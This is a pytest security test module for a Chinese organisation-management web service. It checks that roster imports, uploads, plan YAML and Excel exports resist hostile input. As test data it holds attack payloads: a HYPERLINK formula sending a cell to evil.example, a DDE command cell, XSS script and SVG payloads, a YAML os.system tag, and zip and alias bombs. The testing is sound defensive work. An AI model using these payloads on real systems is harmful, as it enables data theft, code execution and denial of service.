"""Hostile files (issue 13, "what to keep in make test"): fuzzed rosters, decompression
bombs, HTML/SVG/script uploads and formula cells in every Excel export.

- Rosters (hypothesis, CSV and XLSX bytes, as an upload arrives): every refusal names its
  row and column (``第n行·表头``), its header or the file, in Chinese; an accepted roster holds
  only ids a URL can carry and texts the database's columns and the accounts it derives can
  hold; a refused file imported through ``chuangzheng.services.roster`` into a real SQLite
  (and PostgreSQL) database leaves every table as it was, and an accepted one is stored.
- Bombs: an ``.xlsx`` a few KiB long whose sheet expands past the limit is refused with 413
  naming the limit, through the API, and nothing is imported.
- Uploads: HTML, SVG and scripts are refused as evidence (415); text that is HTML inside an
  allowed type is served back as a download (``attachment``, ``nosniff``, never an HTML or
  SVG type).
- Exports: every Excel download of the service, over a round where people wrote formulas
  into reasons and names: no cell is a formula.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker

from activities.db import create_schema, make_engine, session_factory
from activities.roster_files import ROSTER_LIMITS, read_roster_bytes
from activities.tables import OrganisationRow, metadata
from activities.tables.base import ID, NAME
from api.main import create_app
from chuangzheng.services.roster import import_roster_file, roster_accounts
from chuangzheng.settings import Settings
from domain.errors import ValidationFailed
from domain.organisation import Role, Roster
from domain.roster_import import REQUIRED_HEADERS, ROSTER_HEADERS
from domain.state import Actor
from tests.api.conftest import (
    PASSWORD,
    Stack,
    extended_first_deadline,
    start_demo_round,
    token,
    wait_for,
)

CJK = re.compile(r"[\u4e00-\u9fff]")
#: Where a roster refusal may point: a cell, a header, the roster, the file.
ROSTER_FIELD = re.compile(
    rf"^(第\d+行·({'|'.join(ROSTER_HEADERS)}|\(行\))|表头·({'|'.join(ROSTER_HEADERS)})|名册|文件)$"
)
#: Characters an organisation id must not hold: it is a path segment of every URL naming
#: the organisation and part of its workflows' ids.
URL_BREAKERS = re.compile(r"[\x00-\x20\x7f-\x9f/\\?#%]")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
ROSTER_EXAMPLES = 80
#: Rosters tried and refused by this process (the figures of docs/reliability.md).
STATS: Counter[str] = Counter()
COUNTY = Actor(user="county-h7", name="县委活动办", role=Role.COUNTY_OFFICE)

# ── fuzzed rosters ────────────────────────────────────────────────────────────────────

GOOD = {
    "组织编号": "org-1",
    "组织名称": "城关镇东关村党支部",
    "组织类型": "农村",
    "所属乡镇": "城关镇",
    "所属系统": "县农委",
    "党员人数": "42",
    "书记": "李明",
    "指导员": "张指导",
}
hostile_cell = st.one_of(
    st.sampled_from(
        ["", " ", "=1+1", "@SUM(A1)", "org/1", "org 1", "a?b#c", "%2F", "1e400", "nan", "-1",
         "0", "3.5", "1_000", "100001", "99999999999999999999", "社区", "国企", "rural",
         "\x00", "\x0b", "a\tb", "\u202e", "\ufeff", "x" * 70, "汉" * 210, "\r\n", '"', "'"]
    ),
    st.text(max_size=12),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=50, max_size=260),
)  # fmt: skip


@st.composite
def roster_tables(draw: st.DrawFn) -> list[list[str]]:
    """A header row and a few data rows: good rows with up to four hostile cells placed
    anywhere, and sometimes a column missing, duplicated or unknown."""
    headers = list(ROSTER_HEADERS)
    if draw(st.integers(0, 3)) == 0:
        headers.remove(draw(st.sampled_from(headers)))
    if draw(st.integers(0, 5)) == 0:
        headers.append(draw(st.one_of(st.sampled_from(headers), st.text(max_size=6))))
    rows: list[list[str]] = [headers]
    for number in range(draw(st.integers(min_value=0, max_value=5))):
        good = GOOD | {"组织编号": f"org-{number}", "组织名称": f"第{number}党支部"}
        rows.append([good.get(header, "") for header in headers])
    for _ in range(draw(st.integers(min_value=0, max_value=4)) if len(rows) > 1 else 0):
        row = draw(st.integers(min_value=1, max_value=len(rows) - 1))
        column = draw(st.integers(min_value=0, max_value=len(headers) - 1))
        rows[row][column] = draw(hostile_cell)
    return rows


def csv_bytes(table: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(table)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(table: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in table:
        # openpyxl refuses control characters in cells (a real Excel file cannot hold them).
        sheet.append([CONTROL.sub("", v) if isinstance(v, str) else v for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def dump(engine: Engine) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table, in a stable order: what "unchanged" compares."""
    with engine.connect() as connection:
        return {
            table.name: sorted((tuple(row) for row in connection.execute(select(table))), key=repr)
            for table in metadata.sorted_tables
        }


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def roster_db(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Engine, sessionmaker[Session]]]:
    """A real database of this module's own, with a county already imported."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('hostile-db') / 'roster.db'}"
        admin = None
        name = ""
    else:
        base: str = request.getfixturevalue("postgres_url")
        name = f"cz_hostile_{uuid.uuid4().hex[:10]}"
        admin = make_engine(base).execution_options(isolation_level="AUTOCOMMIT")
        with admin.connect() as connection:
            connection.exec_driver_sql(f'CREATE DATABASE "{name}"')
        url = base.rsplit("/", 1)[0] + f"/{name}"
    engine = make_engine(url)
    create_schema(engine)
    sessions = session_factory(engine)
    first = tmp_path_factory.mktemp("hostile-roster") / "first.csv"
    first.write_bytes(csv_bytes([list(GOOD), list(GOOD.values())]))
    import_roster_file(sessions, COUNTY, first)
    try:
        yield engine, sessions
    finally:
        engine.dispose()
        if admin is not None:
            with admin.connect() as connection:
                connection.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
            admin.dispose()


def assert_refusal_names_its_place(exc: ValidationFailed, rows: int) -> None:
    assert exc.errors
    for error in exc.errors:
        assert ROSTER_FIELD.match(error.field), error
        assert CJK.search(error.reason), error
        number = re.match(r"^第(\d+)行", error.field)
        if number:  # the row a clerk sees: the header is row 1
            assert 2 <= int(number.group(1)) <= rows + 1, error


def assert_storable(roster: Roster) -> None:
    """What an accepted roster promises the rest of the service."""
    for org in roster.organisations:
        assert not URL_BREAKERS.search(org.id), org.id
        for value in (org.name, org.township, org.secretary, org.instructor):
            assert not CONTROL.search(value), value
            assert len(value) <= NAME
    for account in roster_accounts(roster):
        assert len(account.username) <= ID, account.username
        assert len(account.display_name) <= NAME, account.display_name


@settings(
    max_examples=ROSTER_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(table=roster_tables(), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_a_fuzzed_roster_is_imported_whole_or_refused_naming_its_row(
    table: list[list[str]],
    suffix: str,
    roster_db: tuple[Engine, sessionmaker[Session]],
    tmp_path: Path,
) -> None:
    engine, sessions = roster_db
    data = csv_bytes(table) if suffix == ".csv" else xlsx_bytes(table)
    path = tmp_path / f"{uuid.uuid4().hex}{suffix}"
    path.write_bytes(data)
    STATS["tried"] += 1
    try:
        roster = read_roster_bytes(data, suffix)
    except ValidationFailed as exc:
        STATS["refused"] += 1
        STATS["errors"] += len(exc.errors)
        assert_refusal_names_its_place(exc, len(table) - 1)
        before = dump(engine)
        with pytest.raises(ValidationFailed):
            import_roster_file(sessions, COUNTY, path)
        assert dump(engine) == before  # nothing half-imported
        return
    assert_storable(roster)
    import_roster_file(sessions, COUNTY, path)  # the database takes what the parser took
    with engine.connect() as connection:
        active = connection.scalars(
            select(OrganisationRow.org_id).where(OrganisationRow.active.is_(True))
        ).all()
    assert set(active) == {o.id for o in roster.organisations}


@pytest.mark.parametrize(
    ("cells", "field"),
    [
        ({"组织编号": "org/1"}, "第2行·组织编号"),
        ({"组织编号": "org?1"}, "第2行·组织编号"),
        ({"组织编号": "org#1"}, "第2行·组织编号"),
        ({"组织编号": "org%2F1"}, "第2行·组织编号"),
        ({"组织编号": "org\\1"}, "第2行·组织编号"),
        ({"组织编号": "org\x851"}, "第2行·组织编号"),
        ({"组织名称": "东关\x00村"}, "第2行·组织名称"),
        ({"书记": "李\x0b明"}, "第2行·书记"),
        ({"指导员": "张" * 60}, "第2行·指导员"),
        ({"所属乡镇": "镇" * 60}, "第2行·所属乡镇"),
        ({"书记": "李" * 60}, "第2行·书记"),
    ],
)
def test_what_a_url_or_the_database_cannot_hold_is_refused_with_its_cell(
    cells: dict[str, str], field: str
) -> None:
    with pytest.raises(ValidationFailed) as refused:
        read_roster_bytes(csv_bytes([list(GOOD), list((GOOD | cells).values())]), ".csv")
    assert [e.field for e in refused.value.errors] == [field]
    assert CJK.search(refused.value.errors[0].reason)


def test_the_shape_limits_name_themselves() -> None:
    head = list(REQUIRED_HEADERS)
    rows = [head] + [[f"单位{i}", "农村", "城关镇", "县农委", "3", "李", "张"] for i in range(3)]
    wide = [head + [f"c{i}" for i in range(40)]]
    for table, reason in (
        (wide, f"列数超过上限 {ROSTER_LIMITS.max_columns} 列"),
        (rows[:1] + rows[1:] * 3400, f"数据行数超过上限 {ROSTER_LIMITS.max_rows} 行"),
    ):
        with pytest.raises(ValidationFailed) as refused:
            read_roster_bytes(csv_bytes(table), ".csv")
        assert reason in refused.value.errors[0].reason


# ── decompression bombs and oversized tables, through the API ───────────────────────────


def _rebuild(data: bytes, change: Any) -> bytes:
    """``data`` (an .xlsx) with every member passed through ``change(name, bytes)``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, change(info.filename, source.read(info.filename)))
    return out.getvalue()


def xlsx_bomb(expanded: int) -> bytes:
    """A valid roster .xlsx whose sheet XML expands to ``expanded`` bytes (whitespace,
    which deflate packs about a thousand to one)."""
    good = xlsx_bytes([list(GOOD), list(GOOD.values())])
    padding = b" " * expanded

    def pad(name: str, member: bytes) -> bytes:
        return (
            member.replace(b"<sheetData>", b"<sheetData>" + padding) if "sheet1" in name else member
        )

    return _rebuild(good, pad)


def lying_zip(data: bytes, member: bytes = b"xl/worksheets/sheet1.xml", size: int = 100) -> bytes:
    """``data`` with the sheet's declared uncompressed size set to ``size`` (a zip's
    directory may lie; the limit is checked on it before anything is inflated)."""
    patched = bytearray(data)
    at = patched.find(member)
    while at >= 0:
        if patched[at - 30 : at - 26] == b"PK\x03\x04":  # local header: size at +22
            patched[at - 8 : at - 4] = size.to_bytes(4, "little")
        if patched[at - 46 : at - 42] == b"PK\x01\x02":  # central directory: size at +24
            patched[at - 22 : at - 18] = size.to_bytes(4, "little")
        at = patched.find(member, at + 1)
    return bytes(patched)


def _organisations(stack: Stack) -> list[tuple[Any, ...]]:
    engine = make_engine(stack.settings.database_url)
    try:
        with engine.connect() as connection:
            return sorted(tuple(r) for r in connection.execute(select(OrganisationRow)))
    finally:
        engine.dispose()


def _rows_declared(rows: int) -> bytes:
    """A small .xlsx whose sheet says it has ``rows`` rows (its <dimension>)."""
    good = xlsx_bytes([list(GOOD), list(GOOD.values())])
    return _rebuild(
        good,
        lambda name, member: (
            re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="A1:H{rows}"'.encode(), member)
            if "sheet1" in name
            else member
        ),
    )


MIB = 1024 * 1024
ROWS_OVER = "数据行数超过上限 10000 行"
HOSTILE_TABLES: list[tuple[str, str, Any, int, str]] = [
    # (what, file name, bytes, status, words the refusal must hold)
    ("roster bomb", "名册.xlsx", lambda: xlsx_bomb(11 * MIB), 413, "解压后超过上限 10MB"),
    ("lying zip", "名册.xlsx", lambda: lying_zip(xlsx_bomb(11 * MIB)), 422, "无法读取 Excel"),
    ("declared rows", "名册.xlsx", lambda: _rows_declared(1_000_000), 422, ROWS_OVER),
    ("not a zip", "名册.xlsx", lambda: b"PK\x03\x04" + b"\x00" * 64, 422, "无法读取 Excel"),
    ("csv rows", "名册.csv", lambda: csv_bytes([list(GOOD), *[list(GOOD.values())] * 10_001]),
     422, ROWS_OVER),
    ("csv field", "名册.csv", lambda: csv_bytes([list(GOOD), ["x" * 200_000]]), 422,
     "CSV 格式错误"),
    ("too big", "名册.csv", lambda: b"a," * 2_700_000, 413, "5MB"),
    ("html", "名册.html", lambda: b"<script>alert(1)</script>", 415, ".csv 或 .xlsx"),
]  # fmt: skip


@pytest.mark.one_database(
    "sqlite",
    why="the files are refused while they are read, before anything is written",
)
@pytest.mark.asyncio(loop_scope="session")
async def test_bombs_and_oversized_tables_are_refused_naming_the_limit(
    http: httpx.AsyncClient, stack: Stack
) -> None:
    county = await token(http, "county")
    before = _organisations(stack)
    for what, name, make, status, words in HOSTILE_TABLES:
        data = make()
        assert len(data) < 6 * 1024 * 1024, what
        answer = await http.post(
            "/api/v1/roster",
            files={"file": (name, data, "application/octet-stream")},
            headers=county,
        )
        assert answer.status_code == status, (what, answer.status_code, answer.text)
        body = answer.json()
        assert body["errors"] and body["errors"][0]["field"] in ("文件", "file"), (what, body)
        assert words in body["message"] + "".join(e["reason"] for e in body["errors"]), (what, body)
    # The member list's limit is its own (20MB expanded), named in its refusal.
    members = await http.post(
        "/api/v1/members/import",
        files={"file": ("党员.xlsx", xlsx_bomb(21 * 1024 * 1024), "application/octet-stream")},
        headers=county | {"Idempotency-Key": uuid.uuid4().hex},
    )
    assert members.status_code == 413, members.text
    assert "20MB" in members.text
    # An upload under an Idempotency-Key was a 500 (the key hashed a consumed stream).
    key = county | {"Idempotency-Key": uuid.uuid4().hex}
    bad = {"file": ("党员.csv", "组织编号,党员姓名,党员编号\norg-c,,M1\n".encode(), "text/csv")}
    answers = [await http.post("/api/v1/members/import", files=bad, headers=key) for _ in "12"]
    assert [a.status_code for a in answers] == [422, 422], answers[0].text
    assert answers[0].json() == answers[1].json()
    assert _organisations(stack) == before  # nothing imported


# ── HTML, SVG and scripts as evidence ────────────────────────────────────────────────────

SCRIPT = b"<html><body><script>fetch('/api/v1/accounts').then(r=>r.text()).then(alert)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
REFUSED_UPLOADS = [
    "证明.html", "证明.htm", "证明.HTML", "证明.xhtml", "证明.svg", "证明.svgz", "证明.js",
    "证明.mjs", "证明.xml", "证明.mht", "证明.shtml", "证明.php", "证明.exe", "证明.bat",
    "证明.pdf.html", "证明.txt.svg", "证明", ".htaccess", "证明.jpg ",
]  # fmt: skip
RENDERED = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml",
            "application/javascript", "text/javascript")  # fmt: skip


@pytest.mark.one_database(
    "sqlite",
    why=(
        "what is refused or how a file is served is decided by its content, not by the database"
        " that lists it"
    ),
)
@pytest.mark.asyncio(loop_scope="session")
async def test_html_svg_and_scripts_are_refused_or_served_as_downloads(
    stack: Stack, round_id: str
) -> None:
    target = f"/api/v1/rounds/{round_id}/organisations/org-a/files"
    async with httpx.AsyncClient(base_url=stack.base_url, timeout=60) as http:
        secretary = await token(http, "sec-a")
        for name in REFUSED_UPLOADS:
            content = SVG if "svg" in name else SCRIPT
            refused = await http.post(
                target, files={"file": (name, content, "text/html")}, headers=secretary
            )
            assert refused.status_code == 415, (name, refused.status_code, refused.text)
        # Hostile bytes under an allowed name: stored, then only ever downloaded.
        accepted = {
            "说明.txt": (SCRIPT + uuid.uuid4().bytes.hex().encode(), "text/plain"),
            "照片.png": (SVG + uuid.uuid4().bytes.hex().encode(), "image/png"),
            "报告.pdf": (SCRIPT + uuid.uuid4().bytes.hex().encode(), "application/pdf"),
            '"><img src=x onerror=alert(1)>.txt': (SCRIPT + b"!", "text/plain"),
        }
        stored: dict[str, str] = {}
        for name, (content, _) in accepted.items():
            answer = await http.post(
                target, files={"file": (name, content, "text/html")}, headers=secretary
            )
            assert answer.status_code == 201, (name, answer.text)
            stored[name] = answer.json()["sha256"]
        login = await http.post(
            "/ui/login",
            data={"username": "sec-a", "password": PASSWORD, "next": "/ui/"},
            headers={"Origin": stack.base_url},
        )
        assert login.status_code == 303, login.text
        for name, sha256 in stored.items():
            served = await http.get(f"/ui/files/{round_id}/org-a/{sha256}")
            assert served.status_code == 200, (name, served.text)
            assert served.content == accepted[name][0]
            kind = served.headers["content-type"].split(";")[0].strip()
            assert kind == accepted[name][1] and kind not in RENDERED, (name, kind)
            assert served.headers["content-disposition"].startswith("attachment"), name
            assert served.headers["x-content-type-options"] == "nosniff"
            assert "<img" not in served.headers["content-disposition"]
            assert "sandbox" in served.headers["content-security-policy"] or (
                "script-src 'self'" in served.headers["content-security-policy"]
            )


# ── formula cells in every Excel export ──────────────────────────────────────────────────

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
#: Every route that answers with a workbook; a new one fails the coverage check below until
#: it is added to the table.
XLSX_ROUTES = {
    "/ui/export/laggards.xlsx",
    "/ui/export/organisations.xlsx",
    "/ui/export/orgs/{org_id}/timeline.xlsx",
    "/ui/export/circulars/{round_id}/{key}",
    "/ui/audit.xlsx",
    "/ui/accounts/activation-list",
    "/api/v1/audit.xlsx",
    "/api/v1/circulars/{circular_id:path}/file",
    "/api/v1/accounts/activation-lists",
}
#: Workbook routes whose formula check needs a finished what-if: a background rehearsal, run
#: and checked (the reason ``=HYPERLINK("x")`` comes back a text cell) in the module named.
XLSX_ROUTES_CHECKED_ELSEWHERE = {
    "/ui/what-if.xlsx": "tests/api/test_what_if_page.py",
    "/api/v1/rounds/{round_id}/what-if.xlsx": "tests/api/test_what_if_page.py",
}


def _cells(data: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


def test_every_route_answering_with_a_workbook_is_in_the_table(tmp_path: Path) -> None:
    app = create_app(
        Settings(
            environment="test",
            data_dir=tmp_path,
            database_url=f"sqlite:///{tmp_path / 'routes.db'}",
            secret_key=f"test-{uuid.uuid4()}",
        )
    )
    paths = set()
    for route in app.routes:
        for context in getattr(route, "effective_route_contexts", lambda: [])():
            paths.add(context.path)
    xlsxish = {p for p in paths if "xlsx" in p or "activation-list" in p or "circular" in p}
    # The circular's docx/pdf and the listing are not workbooks.
    xlsxish -= {"/ui/export/circular.{fmt}", "/api/v1/rounds/{round_id}/circulars",
                "/rounds/{round_id}/circulars/{key}"}  # fmt: skip
    assert xlsxish == XLSX_ROUTES | set(XLSX_ROUTES_CHECKED_ELSEWHERE)


@pytest.mark.asyncio(loop_scope="session")
async def test_no_cell_of_any_export_is_a_formula(stack: Stack) -> None:
    rid = await start_demo_round(stack, f"hostile-{uuid.uuid4().hex[:8]}")
    base = f"/api/v1/rounds/{rid}/organisations/org-c"
    async with httpx.AsyncClient(base_url=stack.base_url, timeout=60) as http:
        secretary, instructor = await token(http, "sec-c"), await token(http, "ins-liu")
        county = await token(http, "county")
        status = (await http.get(f"{base}/status", headers=secretary)).json()
        asked = await http.post(
            f"{base}/extensions",
            json={"new_deadline": extended_first_deadline(status).isoformat(), "reason": HYPERLINK},
            headers=secretary,
        )
        assert asked.status_code == 200, asked.text
        step = next(s for s in status["state"]["phases"][0]["steps"] if s["required"])
        waived = await http.post(
            f"{base}/waivers", json={"step_id": step["step_id"], "reason": DDE}, headers=instructor
        )
        assert waived.status_code == 200, waived.text
        account = await http.post(
            "/api/v1/accounts",
            json={"username": f"h7-{uuid.uuid4().hex[:8]}", "display_name": HYPERLINK,
                  "role": "secretary", "scope_key": "org-c"},
            headers=county,
        )  # fmt: skip
        assert account.status_code == 201, account.text
        published = await http.post(
            f"/api/v1/rounds/{rid}/circulars",
            headers=county | {"Idempotency-Key": f"h7-{rid}"},
        )
        assert published.status_code == 201, published.text

        async def circular_link() -> str | None:
            digests = (await http.get("/api/v1/digests", headers=county)).json()
            links = [d["link_path"] for d in digests if d["round_id"] == rid and d["link_path"]]
            return links[0] if links else None

        link = await wait_for(circular_link)

    async with httpx.AsyncClient(
        base_url=stack.base_url, timeout=60, headers={"Origin": stack.base_url}
    ) as browser:
        signed_in: dict[str, httpx.Cookies] = {}
        for user in ("county", "ins-liu"):
            login = await browser.post(
                "/ui/login", data={"username": user, "password": PASSWORD, "next": "/ui/"}
            )
            assert login.status_code == 303, login.text
            signed_in[user] = httpx.Cookies(browser.cookies)
            browser.cookies.clear()

        async def fetch(user: str, method: str, path: str, **kw: Any) -> httpx.Response:
            headers = kw.pop("headers", {})
            if path.startswith("/api/"):
                headers |= await token(browser, user)
                browser.cookies.clear()
            else:
                browser.cookies = signed_in[user]
            return await browser.request(method, path, headers=headers, follow_redirects=True, **kw)

        # (route as the table names it, who, method, path, keywords, texts that must be cells)
        township = {"township": "青石镇", "format": "xlsx"}
        timeline = f"/ui/export/orgs/org-c/timeline.xlsx?round={rid}"
        exports: list[tuple[str, str, str, str, dict[str, Any], set[str]]] = [
            ("/ui/export/laggards.xlsx", "county", "GET",
             f"/ui/export/laggards.xlsx?round={rid}", {}, set()),
            ("/ui/export/organisations.xlsx", "county", "GET",
             f"/ui/export/organisations.xlsx?round={rid}", {}, set()),
            ("/ui/export/orgs/{org_id}/timeline.xlsx", "ins-liu", "GET", timeline, {},
             {HYPERLINK, DDE}),
            ("/ui/export/circulars/{round_id}/{key}", "county", "GET", link, {}, set()),
            ("/ui/audit.xlsx", "county", "GET", "/ui/audit.xlsx", {}, set()),
            ("/ui/accounts/activation-list", "county", "POST", "/ui/accounts/activation-list",
             {"data": township}, {HYPERLINK}),
            ("/api/v1/audit.xlsx", "county", "GET", "/api/v1/audit.xlsx", {}, set()),
            ("/api/v1/circulars/{circular_id:path}/file", "county", "GET",
             published.json()["download"], {}, set()),
            ("/api/v1/accounts/activation-lists", "county", "POST",
             "/api/v1/accounts/activation-lists", {"json": township}, {HYPERLINK}),
        ]  # fmt: skip
        assert {e[0] for e in exports} == XLSX_ROUTES

        async def timeline_has_both() -> bool:
            got = await fetch("ins-liu", "GET", timeline)
            return {HYPERLINK, DDE} <= {str(v) for v, _ in _cells(got.content)}

        await wait_for(timeline_has_both)
        for route, user, method, path, kw, expected in exports:
            answer = await fetch(user, method, path, **kw)
            assert answer.status_code == 200, (route, answer.status_code, answer.text[:300])
            cells = _cells(answer.content)
            assert cells, route
            assert not [c for c in cells if c[1] == "f"], route
            for text_value in expected:
                assert (text_value, "s") in cells, (route, text_value)


# ── hostile plans, through the API ───────────────────────────────────────────────────────

ALIAS_BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    + ["rounds: *a9"]
)
HOSTILE_PLANS = {
    "deep nesting": "a: " + "[" * 5000 + "]" * 5000,  # a RecursionError (500) before the fix
    "alias bomb": ALIAS_BOMB,
    "python tag": "!!python/object/apply:os.system ['true']",
    "not a mapping": "- 1\n- 2",
}


@pytest.mark.one_database(
    "sqlite",
    why="the plan is refused while it is parsed, before anything is written",
)
@pytest.mark.asyncio(loop_scope="session")
async def test_a_hostile_plan_upload_is_refused_naming_its_field(
    http: httpx.AsyncClient, stack: Stack
) -> None:
    county = await token(http, "county")
    for what, plan_yaml in HOSTILE_PLANS.items():
        rid = f"hostile-plan-{uuid.uuid4().hex[:8]}"
        answer = await http.post(
            "/api/v1/rounds",
            json={"round_id": rid, "plan_yaml": plan_yaml, "round_plan_id": "demo"},
            headers=county,
        )
        assert answer.status_code == 422, (what, answer.status_code, answer.text[:300])
        errors = answer.json()["errors"]
        assert errors and all(e["field"] and CJK.search(e["reason"]) for e in errors), what
        assert (await http.get(f"/api/v1/rounds/{rid}", headers=county)).status_code == 404
